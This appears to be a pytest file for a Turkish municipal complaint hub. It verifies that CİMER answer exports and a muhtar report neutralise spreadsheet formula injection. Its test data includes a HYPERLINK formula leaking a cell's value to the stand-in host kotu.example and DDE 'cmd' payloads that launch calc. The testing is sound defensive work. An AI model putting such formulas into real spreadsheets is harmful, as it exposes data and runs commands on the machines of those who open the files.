"""Issue 10, finding 5: no export may carry a live spreadsheet formula.

A CİMER list whose başvuru no and text are formulas is imported through the drop folder, a
staff member answers with a formula, and the answer file the hub writes for upload must hold
only plain strings (typed dates and numbers stay typed). The same holds for the CSV answer
file and the muhtar report workbook.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from connectors.imports import Answer, read_answers, write_answers
from hub import reports
from tests.e2e_support import answer, drop_file, wait_outbox_settled, wait_requests

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL_NO = '=HYPERLINK("http://kotu.example/?v="&C2,"2611000999")'
EVIL_TEXT = "=cmd|' /C calc'!A0 sokak lambası yanmıyor"
EVIL_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"


def assert_inert(values: list[object]) -> None:
    for value in values:
        if isinstance(value, str) and value:
            assert not value.startswith(TRIGGERS), f"live formula trigger in {value!r}"


def assert_workbook_inert(path: Path) -> None:
    wb = load_workbook(path)  # not read-only: data_type is what openpyxl parsed from the XML
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {ws.title}!{cell.coordinate}: {cell.value!r}"
            assert_inert([c.value for c in row])


def string_cells_xlsx(header: list[str], rows: list[list[object]]) -> bytes:
    """A workbook as CİMER would export it: formula-looking values stored as text cells."""
    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for values in rows:
        ws.append(values)
        for cell in ws[ws.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.fixture
def folders(tmp_path: Path) -> dict[str, Path]:
    return {"import": tmp_path / "drop", "export": tmp_path / "cevap", "calllog": tmp_path / "alo153"}


@pytest.fixture
def settings(settings_factory, folders):  # noqa: ANN001, ANN201
    return settings_factory(
        import_dir=folders["import"], export_dir=folders["export"], calllog_dir=folders["calllog"],
        file_poll_seconds=0.3,
    )  # fmt: skip


async def test_cimer_answer_xlsx_holds_no_formula_from_import_or_staff(client, hub, folders) -> None:  # noqa: ANN001
    header = ["Başvuru No", "Başvuru Tarihi", "Başvuru Türü", "İlçe", "Mahalle", "Konu", "Metin"]
    row = [EVIL_NO, "20.11.2026 09:15", "Şikayet", "Melikgazi", "Gesi Fatih", "+Aydınlatma", EVIL_TEXT]
    drop_file(folders["import"] / "cimer", "cimer_formul.xlsx", string_cells_xlsx(header, [row]))
    [req] = await wait_requests(client, "cimer", 1)

    await answer(client, req["id"], EVIL_ANSWER, outcome="olumlu")
    await wait_outbox_settled(hub, req["id"], "reply")
    [export] = sorted(folders["export"].glob("cimer_cevaplar_*.xlsx"))
    assert_workbook_inert(export)
    ws = load_workbook(export).active
    no, when, text, outcome = next(ws.iter_rows(min_row=2, values_only=True))
    assert (no, text, outcome) == ("'" + EVIL_NO, "'" + EVIL_ANSWER, "olumlu")
    assert isinstance(when, datetime), "dates stay typed"
    # Reading the file back (the sink appends to it) gives the values as the hub holds them.
    assert [(a.basvuru_no, a.text) for a in read_answers(export)] == [(EVIL_NO, EVIL_ANSWER)]


ANSWERS = [
    Answer("=1+2", "-2+3 kaldırım onarıldı", datetime(2026, 3, 5, 7, 30, tzinfo=UTC), "olumlu"),
    Answer("@A1", '\t=HYPERLINK("http://kotu.example")', datetime(2026, 3, 6, 12, 0, tzinfo=UTC)),
    Answer("+905321112233", "\r=cmd|' /C calc'!A0", datetime(2026, 3, 6, 12, 0, tzinfo=UTC), "olumsuz"),
    Answer("2026100004", "'=zaten tırnaklı", datetime(2026, 3, 6, 12, 0, tzinfo=UTC)),
    Answer("2026100005", "Kontrol \x01karakteri =1", datetime(2026, 3, 6, 12, 0, tzinfo=UTC)),
]


def test_answer_csv_cells_are_neutralised_and_read_back_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "cevaplar.csv"
    write_answers(path, ANSWERS, kind="cimer", fmt="csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    for r in rows[1:]:
        assert_inert(r)
    assert rows[1][:1] == ["'=1+2"] and rows[2][2].startswith("'\t=")
    assert [(a.basvuru_no, a.text) for a in read_answers(path)] == [(a.basvuru_no, a.text) for a in ANSWERS]


def test_answer_xlsx_cells_are_strings_and_read_back_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "cevaplar.xlsx"
    write_answers(path, ANSWERS, kind="mbs", fmt="xlsx")
    assert_workbook_inert(path)
    back = [(a.basvuru_no, a.text) for a in read_answers(path)]
    # Characters XML cannot hold are dropped and a carriage return is a line feed in XML;
    # everything else survives the round trip.
    expected = [(a.basvuru_no, a.text.replace("\x01", "").replace("\r", "\n")) for a in ANSWERS]
    assert back == expected


def test_muhtar_report_xlsx_neutralises_names_from_request_data(tmp_path: Path) -> None:
    report = {
        "quarter": "2026Q3",
        "totals": {"toplam": 3, "olumlu": 1, "olumsuz": 1, "cevaplanan": 2, "bekleyen": 1},
        "by_ilce": {
            '=HYPERLINK("http://kotu.example")': {"toplam": 3, "olumlu": 1, "olumsuz": 1, "bekleyen": 1}
        },
    }
    path = tmp_path / "muhtar.xlsx"
    reports.muhtar_xlsx(report, path)
    assert_workbook_inert(path)
    ilce = load_workbook(path)["İlçe"]
    row = [c.value for c in ilce[2]]
    assert row == ["2026Q3", '\'=HYPERLINK("http://kotu.example")', 3, 1, 1, 0, 1, 0], "numbers stay numbers"


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'x"])
def test_every_trigger_gets_one_quote(value: str) -> None:
    from connectors.imports.cells import safe_cell

    assert safe_cell(value) == "'" + value
    assert safe_cell(5) == 5 and safe_cell(None) is None and safe_cell("Kayseri") == "Kayseri"
